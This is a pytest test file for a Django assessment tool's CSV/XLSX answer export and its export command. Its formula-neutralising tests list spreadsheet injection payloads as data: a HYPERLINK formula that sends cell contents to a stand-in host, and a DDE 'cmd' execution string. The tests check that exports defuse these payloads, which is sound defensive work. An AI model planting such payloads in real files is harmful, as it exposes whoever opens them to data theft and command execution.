"""Raw answers as CSV and XLSX (assessments/export_formats.py) and `export_results`."""

import csv
import io
import json
import re
from datetime import date

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from hypothesis import given, strategies as st

from assessments.export_formats import (
    COLUMNS,
    FORMULA_TRIGGERS,
    answers_csv,
    answers_xlsx,
    export_filename,
    neutralise,
    restore,
    xlsx_escape,
    xlsx_unescape,
)
from assessments.models import Answer, Organisation, Question

from .conftest import answer_all, make_action, make_respondent

pytestmark = pytest.mark.django_db

FORMULA_PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTab",
    "\rCarriage",
]

# Payloads a semicolon-locale Excel (or a reader that loses the quotes) would cut
# into cells, one of which starts a formula.
SPLIT_PAYLOADS = ["x;=1+1;", "a,-2", "Anna\n=cmd|' /C calc'!A0", "b;@SUM(A1)", "c;\t=1"]
_PIECES = re.compile(r"[,;\r\n]")


def _questions(assessment):
    return list(
        Question.objects.filter(dimension__question_set=assessment.question_set)
        .select_related("dimension")
        .order_by("dimension__position", "position")
    )


def csv_rows(data):
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_rows(data):
    workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    rows = [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]
    workbook.close()
    return rows


def _run(*args):
    out = io.StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


class TestAnswerRows:
    def test_it_writes_one_row_per_respondent_and_question_in_set_order(
        self, assessment
    ):
        anna = make_respondent(assessment, label="Anna")
        beta = assessment.partnership.organisations.get(name="Beta")
        make_respondent(assessment, organisation=beta, label="Bert")
        answer_all(anna, 4)
        questions = _questions(assessment)

        rows = csv_rows(answers_csv(assessment))

        assert tuple(rows[0]) == COLUMNS
        assert len(rows) == 1 + 2 * len(questions)
        assert [row[3] for row in rows[1 : 1 + len(questions)]] == [
            q.code for q in questions
        ]
        first = questions[0]
        code = first.dimension.code
        assert rows[1] == ["Anna", "Alfa", code, first.code, "4", "answered"]
        assert {tuple(row[:2]) for row in rows[1:]} == {
            ("Anna", "Alfa"),
            ("Bert", "Beta"),
        }
        assert {row[4] for row in rows if row[0] == "Bert"} == {""}
        assert {row[5] for row in rows if row[0] == "Bert"} == {"unanswered"}

    def test_dont_know_is_an_empty_value_told_apart_by_its_status(self, respondent):
        first, second = _questions(respondent.assessment)[:2]
        Answer.objects.create(respondent=respondent, question=first, value=None)
        Answer.objects.create(respondent=respondent, question=second, value=5)

        rows = csv_rows(answers_csv(respondent.assessment))

        assert rows[1][4:] == ["", "dont_know"]
        assert rows[2][4:] == ["5", "answered"]
        assert rows[3][4:] == ["", "unanswered"]

    def test_the_csv_has_a_byte_order_mark_and_crlf_lines_for_excel(self, respondent):
        data = answers_csv(respondent.assessment)
        assert data.startswith("\ufeffrespondent,organisation,".encode())
        assert b"\r\n" in data and b"\n\n" not in data

    def test_the_xlsx_holds_the_same_rows_with_numbers_as_numbers(self, respondent):
        answer_all(respondent, 3)
        csv_data = csv_rows(answers_csv(respondent.assessment))
        xlsx_data = xlsx_rows(answers_xlsx(respondent.assessment))
        assert xlsx_data[0] == list(COLUMNS)
        assert xlsx_data[1][4] == 3
        assert [[str(c) for c in row] for row in xlsx_data] == csv_data

    def test_an_assessment_without_respondents_exports_just_the_header(
        self, assessment
    ):
        assert csv_rows(answers_csv(assessment)) == [list(COLUMNS)]
        assert xlsx_rows(answers_xlsx(assessment)) == [list(COLUMNS)]


class TestFormulaNeutralising:
    @pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
    def test_labels_and_organisation_names_never_start_a_formula(
        self, assessment, payload
    ):
        organisation = Organisation.objects.create(
            partnership=assessment.partnership, name=payload + " org", position=9
        )
        make_respondent(assessment, organisation=organisation, label=payload)

        for rows in (
            csv_rows(answers_csv(assessment)),
            [
                [xlsx_unescape(c) if isinstance(c, str) else c for c in row]
                for row in xlsx_rows(answers_xlsx(assessment))
            ],
        ):
            assert rows[1][0] == "'" + payload
            assert rows[1][1] == "'" + payload + " org"
            for row in rows:
                for cell in row:
                    assert not str(cell).startswith(FORMULA_TRIGGERS)

    def test_the_xlsx_stores_payloads_as_text_not_formulas(self, assessment):
        make_respondent(assessment, label="=1+1")
        workbook = openpyxl.load_workbook(io.BytesIO(answers_xlsx(assessment)))
        cell = workbook.worksheets[0]["A2"]
        assert cell.data_type == "s"
        assert cell.value == "'=1+1"

    @given(st.text())
    def test_restore_undoes_neutralise_exactly(self, text):
        assert restore(neutralise(text)) == text
        assert not neutralise(text).startswith(FORMULA_TRIGGERS)

    @given(st.text(alphabet=st.sampled_from("ab'=+-@\t\r\n,; ")))
    def test_no_piece_of_a_neutralised_text_starts_a_formula(self, text):
        pieces = _PIECES.split(neutralise(text))
        assert not any(piece.startswith(FORMULA_TRIGGERS) for piece in pieces)
        assert restore(neutralise(text)) == text

    @pytest.mark.parametrize("payload", SPLIT_PAYLOADS)
    def test_a_semicolon_locale_finds_no_formula_in_the_csv(self, assessment, payload):
        organisation = Organisation.objects.create(
            partnership=assessment.partnership, name=payload, position=9
        )
        make_respondent(assessment, organisation=organisation, label=payload)
        text = answers_csv(assessment).decode("utf-8-sig")
        # What Dutch Excel does with a comma file: cut on semicolons, quotes or not.
        for line in re.split(r"\r\n|\n|\r", text):
            for cell in line.split(";"):
                assert not cell.lstrip('"').startswith(FORMULA_TRIGGERS), line
        row = csv_rows(answers_csv(assessment))[1]
        assert [restore(cell) for cell in row[:2]] == [payload, payload]

    def test_the_xlsx_gets_the_same_pieces_neutralised(self, assessment):
        make_respondent(assessment, label="x;=1+1;")
        workbook = openpyxl.load_workbook(io.BytesIO(answers_xlsx(assessment)))
        cell = workbook.worksheets[0]["A2"]
        assert cell.data_type == "s"
        assert cell.value == "x;'=1+1;"

    @pytest.mark.parametrize(
        "text", ["Anna", "'Anna", "", "'", "a-b", "3", "'=x", "''+y"]
    )
    def test_restore_leaves_plain_text_alone(self, text):
        assert restore(neutralise(text)) == text
        if not text.lstrip("'").startswith(FORMULA_TRIGGERS):
            assert neutralise(text) == text

    @given(st.text())
    def test_xlsx_escaping_round_trips_any_text(self, text):
        assert xlsx_unescape(xlsx_escape(text)) == text


class TestQueryCount:
    # The workbook also reads the agreed actions with their owners.
    @pytest.mark.parametrize("export, queries", [(answers_csv, 3), (answers_xlsx, 5)])
    def test_the_export_takes_the_same_queries_for_2_or_20_respondents(
        self, assessment, export, queries, django_assert_num_queries
    ):
        for _ in range(2):
            answer_all(make_respondent(assessment))
        make_action(assessment)
        with django_assert_num_queries(queries):
            small = export(assessment)
        for _ in range(18):
            answer_all(make_respondent(assessment))
            make_action(assessment)
        with django_assert_num_queries(queries):
            large = export(assessment)
        assert len(large) > len(small)


def test_the_file_name_says_partnership_what_and_date(assessment):
    assert (
        export_filename(assessment, "csv", today=date(2026, 3, 1))
        == "partnerscan-alfa-beta-answers-2026-03-01.csv"
    )
    assert export_filename(assessment, "json").startswith(
        "partnerscan-alfa-beta-results-"
    )


class TestExportCommand:
    def test_it_prints_the_csv_exactly_as_the_function_makes_it(self, respondent):
        answer_all(respondent, 2)
        output = _run(
            "export_results", str(respondent.assessment.pk), "--format", "csv"
        )
        assert output.encode() == answers_csv(respondent.assessment)

    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_it_writes_a_file_with_o(self, respondent, tmp_path, fmt):
        answer_all(respondent, 5)
        target = tmp_path / f"answers.{fmt}"
        _run(
            "export_results",
            str(respondent.assessment.pk),
            "--format",
            fmt,
            "-o",
            str(target),
        )
        expected = {"csv": csv_rows, "xlsx": xlsx_rows}[fmt]
        exporter = {"csv": answers_csv, "xlsx": answers_xlsx}[fmt]
        assert expected(target.read_bytes()) == expected(
            exporter(respondent.assessment)
        )

    def test_json_is_the_default_with_every_documented_key(self, respondent):
        answer_all(respondent, 4)
        data = json.loads(_run("export_results", str(respondent.assessment.pk)))
        for key in (
            "readiness_index",
            "verdict",
            "blocks",
            "dimensions",
            "weakest_link",
            "largest_gap",
            "agenda",
        ):
            assert key in data
        assert set(data["blocks"]) == {"condition", "link"}
        dimension = data["dimensions"][0]
        for key in ("code", "name", "partnership", "gap", "band", "organisations"):
            assert key in dimension
        assert {"name", "score", "n"} <= set(dimension["organisations"][0])
        assert 0 < data["readiness_index"] < 100

    def test_lang_chooses_the_language_of_names_in_the_json(self, assessment):
        dutch = json.loads(_run("export_results", str(assessment.pk)))
        english = json.loads(_run("export_results", str(assessment.pk), "--lang", "en"))
        assert dutch["dimensions"][0]["name"] == "Kies de juiste partner"
        assert english["dimensions"][0]["name"] == "Choose the right partner"

    def test_xlsx_without_a_file_is_refused_rather_than_garbling_a_terminal(
        self, assessment
    ):
        with pytest.raises(CommandError, match="-o"):
            _run(
                "export_results", str(assessment.pk), "--format", "xlsx", "--lang", "en"
            )

    def test_an_unknown_assessment_fails_clearly(self, db):
        with pytest.raises(CommandError, match="No assessment 999"):
            _run("export_results", "999", "--format", "csv", "--lang", "en")

    def test_an_unknown_format_is_refused(self, assessment):
        with pytest.raises(CommandError, match="invalid choice"):
            _run("export_results", str(assessment.pk), "--format", "pdf")
